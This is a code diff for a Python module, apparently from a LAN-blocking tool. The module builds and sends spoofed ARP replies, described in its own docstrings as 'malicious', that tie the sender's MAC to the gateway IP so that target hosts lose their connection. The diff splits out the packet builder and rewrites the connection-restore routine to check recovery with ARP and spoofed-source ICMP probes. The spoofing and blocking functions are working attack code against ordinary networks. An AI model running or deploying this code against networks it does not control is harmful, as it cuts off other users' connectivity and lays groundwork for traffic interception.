@@ -2,15 +2,21 @@
 
 This module exports:
   - send_arp_packet         function that sends a malicious ARP Reply
+  - arp_packet              function that builds an ARP Reply associating a MAC address with the gateway IP
   - block                   function that blocks the targets' connection
   - restore_connection      function that restores a previously blocked connection
 """
 from logger import create_logger
+from backends import ScanError, get_backend
 from loading_animation import animate
+from constants import RESTORE_CONFIRM, RESTORE_MIN_ROUNDS, RESTORE_MIN_SECONDS, RESTORE_TIMEOUT
+from metrics import count
 from terminal_control import Color
 import time
+from kamene.config import conf
 from kamene.layers.l2 import Ether, ARP
-from kamene.sendrecv import sendp
+from kamene.layers.inet import IP, ICMP
+from kamene.sendrecv import sendp, sniff
 # noinspection PyUnresolvedReferences
 from kamene import route
 
@@ -26,10 +32,25 @@ def send_arp_packet(interface, my_mac, gateway_ip, target_ip, target_mac):
     :param target_ip: The victim's IP address
     :param target_mac: The victim's hardware address
     """
+    packet = arp_packet(my_mac, gateway_ip, target_ip, target_mac)
+    log.debug('Sending Ether/ARP packet at layer 2')
+    sendp(packet, iface=interface, verbose=False)
+    count('block_packets')
+
+
+def arp_packet(my_mac, gateway_ip, target_ip, target_mac):
+    """Return an Ether/ARP Reply (Opcode 2) packet associating `my_mac` with the gateway IP for the victim
+
+    :param my_mac: The hardware address to associate with the gateway IP
+    :param gateway_ip: The router/modem IP address
+    :param target_ip: The victim's IP address
+    :param target_mac: The victim's hardware address
+    :return: The Ether/ARP packet
+    """
     ether = Ether()
     ether.src = my_mac
     ether.dst = target_mac
-    log.debug(f'Ether packet created: {ether!r}')
+    log.debug('Ether packet created: %r', ether)
 
     arp = ARP()
     arp.op = ARP.is_at
@@ -37,13 +58,11 @@ def send_arp_packet(interface, my_mac, gateway_ip, target_ip, target_mac):
     arp.hwsrc = my_mac
     arp.pdst = target_ip
     arp.hwdst = target_mac
-    log.debug(f'ARP packet created: {arp!r}')
+    log.debug('ARP packet created: %r', arp)
 
     packet = ether / arp
-    log.debug(f'Ether/ARP packet created: {packet!r}')
-
-    log.debug('Sending Ether/ARP packet at layer 2')
-    sendp(packet, iface=interface, verbose=False)
+    log.debug('Ether/ARP packet created: %r', packet)
+    return packet
 
 
 def block(targets, addresses, packets):
@@ -53,7 +72,7 @@ def block(targets, addresses, packets):
     :param addresses: An Addresses object
     :param packets: Packets to send per minute
     """
-    log.debug(f'Blocking {targets}')
+    log.debug('Blocking %s', targets)
     while True:
         for t in targets:
             send_arp_packet(addresses.interface.name, addresses.interface.mac, addresses.gateway.ip, t.ip, t.mac)
@@ -61,17 +80,108 @@ def block(targets, addresses, packets):
 
 
 @animate(msg=f'{Color.B_YELLOW}Restaurando conexión, espera un momento...')
-def restore_connection(targets, addresses, seconds=10, delay=0.5):
-    """Send legitimate ARP packets to restore the connection
+def restore_connection(targets, addresses, seconds=RESTORE_TIMEOUT, delay=0.5, confirm=RESTORE_CONFIRM,
+                       min_rounds=RESTORE_MIN_ROUNDS, min_seconds=RESTORE_MIN_SECONDS):
+    """Send legitimate ARP packets to restore the connection until every target is verified
+
+    The gateway is asked for its MAC address first, since it may have changed after it was resolved
+    (e.g. the router was replaced or the session being healed is from before a reboot) and the kernel doesn't
+    report it as a link, address or route change. `addresses` gets the new one.
+    Each round sends the corrections of the pending targets over a single socket along with two probes:
+    an ARP request from us, which an awake target answers, and an ICMP echo request from the gateway IP,
+    whose reply the target sends to the MAC it has for the gateway. The socket is then watched for `delay` seconds.
+    A round counts for a target only if it answered the ARP request and none of its traffic to the gateway
+    or to leave the network reached our MAC. Traffic that did resets its count, silence counts for nothing.
+    A target is restored once `confirm` rounds count, and not before `min_rounds` rounds and `min_seconds` seconds
+    of corrections. Targets that are never verified keep getting corrections until `seconds` expire.
 
     :param targets: List of target hosts
     :param addresses: An Addresses object
-    :param seconds: Time (in seconds) to restore the connection
-    :param delay: Delay between packets sent. Default: 0.5
+    :param seconds: Maximum time (in seconds) to restore the connection. Default: RESTORE_TIMEOUT
+    :param delay: Seconds of each round. Default: 0.5
+    :param confirm: Answered rounds without poisoned traffic that verify a target. Default: RESTORE_CONFIRM
+    :param min_rounds: Minimum correction rounds before a target is verified. Default: RESTORE_MIN_ROUNDS
+    :param min_seconds: Minimum seconds of corrections before a target is verified. Default: RESTORE_MIN_SECONDS
+    :return: List of the targets that could not be verified as restored
     """
-    log.debug(f'Restoring connection with {targets}')
-    for i in range(int(seconds / delay)):
-        for t in targets:
-            send_arp_packet(addresses.interface.name, addresses.gateway.mac, addresses.gateway.ip, t.ip, t.mac)
-        time.sleep(delay)
-    log.debug('Connection restored')
+    log.debug('Restoring connection with %s', targets)
+    _check_gateway_mac(addresses)
+    packets = {t.mac.lower(): [arp_packet(addresses.gateway.mac, addresses.gateway.ip, t.ip, t.mac),
+                               _arp_probe(addresses.interface.mac, t.ip, t.mac),
+                               _icmp_probe(addresses.interface.mac, addresses.gateway.ip, t.ip, t.mac)]
+               for t in targets}
+    clean = dict.fromkeys(packets, 0)
+    start = time.monotonic()
+    deadline = start + seconds
+    rounds = 0
+    sock = conf.L2socket(iface=addresses.interface.name, filter=_evidence_filter(packets, addresses))
+    try:
+        while clean and time.monotonic() < deadline:
+            for mac in clean:
+                for packet in packets[mac]:
+                    sock.send(packet)
+            rounds += 1
+            count('restore_packets', len(clean))
+            answered, poisoned = set(), set()
+            for p in sniff(opened_socket=sock, timeout=delay):
+                if Ether in p:
+                    (answered if ARP in p else poisoned).add(p[Ether].src.lower())
+            settled = rounds >= min_rounds and time.monotonic() - start >= min_seconds
+            for mac in list(clean):
+                if mac in poisoned:
+                    clean[mac] = 0
+                elif mac in answered:
+                    clean[mac] += 1
+                if settled and clean[mac] >= confirm:
+                    log.debug('Connection with %s restored after %s rounds', mac, rounds)
+                    del clean[mac]
+    finally:
+        sock.close()
+
+    unrestored = [t for t in targets if t.mac.lower() in clean]
+    count('restored_targets', len(targets) - len(unrestored), result='verified')
+    count('restored_targets', len(unrestored), result='unverified')
+    if unrestored:
+        log.warning('Connection not verified as restored with %s', unrestored)
+    else:
+        log.debug('Connection restored')
+    return unrestored
+
+
+def _check_gateway_mac(addresses):
+    # Best effort: whatever goes wrong, the targets still get the corrections with the MAC known when blocking
+    try:
+        # Asked with ARP whatever the engine, since a MAC address is what is needed
+        found = get_backend('arp').discover(addresses.gateway.ip, addresses.interface.name)
+    except (OSError, ScanError) as e:
+        log.exception(f'{e.__class__.__name__} on {__name__} module')
+        return
+    if not found:
+        log.warning('Gateway %s did not answer, restoring with %s', addresses.gateway.ip, addresses.gateway.mac)
+        return
+    mac = found[0][1]
+    if mac.lower() != addresses.gateway.mac.lower():
+        log.warning('Gateway %s moved from %s to %s', addresses.gateway.ip, addresses.gateway.mac, mac)
+        addresses.gateway.mac = mac
+
+
+def _arp_probe(my_mac, target_ip, target_mac):
+    # Who has target_ip, answered to us by an awake target whatever it thinks of the gateway
+    return Ether(src=my_mac, dst=target_mac) / ARP(op=ARP.who_has, hwsrc=my_mac,
+                                                   psrc=conf.route.route(target_ip)[1], pdst=target_ip)
+
+
+def _icmp_probe(my_mac, gateway_ip, target_ip, target_mac):
+    # The echo reply goes to the gateway IP, so to our MAC only if the target is still poisoned
+    return Ether(src=my_mac, dst=target_mac) / IP(src=gateway_ip, dst=target_ip) / ICMP()
+
+
+def _evidence_filter(macs, addresses):
+    # ARP replies of the targets, and frames they still send to us for the gateway or for hosts outside the network,
+    # i.e. through the spoofed gateway
+    sources = ' or '.join(f'ether src {mac}' for mac in macs)
+    poisoned = f'dst host {addresses.gateway.ip}'
+    if addresses.network.cidr:
+        poisoned += f' or not dst net {addresses.network.cidr}'
+    return f'ether dst {addresses.interface.mac} and ({sources}) and ' \
+           f'((arp and arp[6:2] = 2) or (ip and ({poisoned})))'